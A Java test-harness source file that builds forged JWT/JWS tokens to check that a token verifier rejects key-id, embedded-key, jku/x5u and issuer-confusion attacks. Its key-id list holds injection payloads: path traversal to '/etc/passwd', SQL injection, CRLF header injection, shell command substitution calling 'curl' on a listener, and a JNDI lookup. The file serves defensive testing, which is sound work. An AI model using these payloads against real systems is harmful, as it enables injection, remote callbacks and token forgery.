package dev.keybearer.token.verification;

import static dev.keybearer.token.verification.Forge.header;
import static dev.keybearer.token.verification.Forge.quoted;

import dev.keybearer.simulator.jose.Jws;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;

/** V4, V5, V10: a key that the attacker names, points to or sends along. */
final class KeyAttacks {
  private KeyAttacks() {}

  static void addTo(Attacks attacks, Forge forge) {
    names(attacks, forge);
    namesThatAreNone(attacks, forge);
    keysSentAlong(attacks, forge);
    issuers(attacks, forge);
  }

  private static void names(Attacks attacks, Forge forge) {
    String[] names = {
      "../../../../../../dev/null",
      "/dev/null",
      "file:///etc/passwd",
      "C:\\\\Windows\\\\win.ini",
      "%2e%2e%2fkeys",
      "' OR '1'='1",
      "x' UNION SELECT 'AAAA' --",
      "k1\\r\\nX-Injected: yes",
      "k1\\r\\n\\r\\nGET /admin HTTP/1.1",
      "k1\\u0000",
      "\\u001b[2J",
      "| curl " + forge.listener,
      "$(curl " + forge.listener + ")",
      "${jndi:" + forge.listener + "}",
      "" + forge.listener,
      "__proto__",
      "toString",
      "",
      "*",
      forge.ec.id() + " ",
      " " + forge.ec.id(),
      forge.ec.id() + "\\u0000",
      forge.ec.id() + "," + forge.rsa.id(),
      "k".repeat(256)
    };
    for (String name : names) {
      attacks.add("key id " + name, Reason.KEY, signed(quoted(name), forge));
    }
  }

  private static void namesThatAreNone(Attacks attacks, Forge forge) {
    attacks.add("key id of 257", Reason.HEADER, signed(quoted("k".repeat(257)), forge));
    String[] values = {"null", "0", "true", "[]", "{}", "[" + quoted(forge.ec.id()) + "]"};
    for (String value : values) {
      attacks.add("key id is " + value, Reason.HEADER, signed(value, forge));
    }
    attacks.add(
        "no key id",
        Reason.SIGNATURE,
        Jws.sign(forge.attacker, "{\"alg\":\"ES256\",\"typ\":\"at+jwt\"}", forge.claims()));
  }

  /** By the attacker's key, under a header that is honest but for the key id. */
  private static String signed(String keyId, Forge forge) {
    String header = header(forge.attacker).replace(quoted(forge.attacker.id()), keyId);
    return Jws.sign(forge.attacker, header, forge.claims());
  }

  private static void keysSentAlong(Attacks attacks, Forge forge) {
    Map<String, String> members = new LinkedHashMap<>();
    String jwk = jwk(forge.attacker.jwk());
    String certificate =
        Base64.getEncoder().encodeToString(forge.attacker.publicKey().getEncoded());
    String there = quoted(forge.listener.toString());
    members.put("jwk", "\"jwk\":" + jwk);
    members.put("jwk with a secret", "\"jwk\":{\"kty\":\"oct\",\"k\":\"" + "A".repeat(43) + "\"}");
    members.put("jwk set", "\"jwk\":{\"keys\":[" + jwk + "]}");
    members.put("jku", "\"jku\":" + there);
    members.put("jku of the issuer, with the key behind it", jkuOfTheIssuer(forge));
    members.put("x5u", "\"x5u\":" + there);
    members.put("x5c", "\"x5c\":[" + quoted(certificate) + "]");
    members.put("x5t", "\"x5t\":\"" + "A".repeat(27) + "\"");
    members.put("x5t#S256", "\"x5t#S256\":\"" + "A".repeat(43) + "\"");
    members.put("every one of them", String.join(",", members.get("jwk"), members.get("jku")));
    members.forEach(
        (name, member) -> {
          String known = header(forge.attacker, member);
          attacks.add(
              name + " under a known key id",
              Reason.SIGNATURE,
              Jws.sign(forge.attacker, known, forge.claims()));
          String unknown = known.replace(quoted(forge.attacker.id()), quoted("mine"));
          attacks.add(
              name + " under a key id of its own",
              Reason.KEY,
              Jws.sign(forge.attacker, unknown, forge.claims()));
        });
  }

  private static String jkuOfTheIssuer(Forge forge) {
    return "\"jku\":" + quoted(forge.issuer + "@" + forge.listener.getAuthority() + "/keys");
  }

  private static String jwk(Map<String, String> members) {
    return members.entrySet().stream()
        .map(member -> quoted(member.getKey()) + ":" + quoted(member.getValue()))
        .reduce((one, other) -> one + "," + other)
        .map(all -> "{" + all + "}")
        .orElseThrow();
  }

  /** The partner is trusted too, and has a key of the same name; each is trusted for itself. */
  private static void issuers(Attacks attacks, Forge forge) {
    attacks.add(
        "signed by the partner, in the issuer's name",
        Reason.SIGNATURE,
        Jws.sign(forge.partner, header(forge.partner), forge.claims()));
    String claims = forge.claims("iss", quoted(forge.partnerIssuer.toString()));
    attacks.add(
        "signed by the issuer, in the partner's name",
        Reason.SIGNATURE,
        Jws.sign(forge.ec, header(forge.ec), claims));
    attacks.add(
        "the issuer's RSA key, in the partner's name",
        Reason.KEY,
        Jws.sign(forge.rsa, header(forge.rsa).replace(forge.rsa.id(), "only-at-corp"), claims));
  }
}
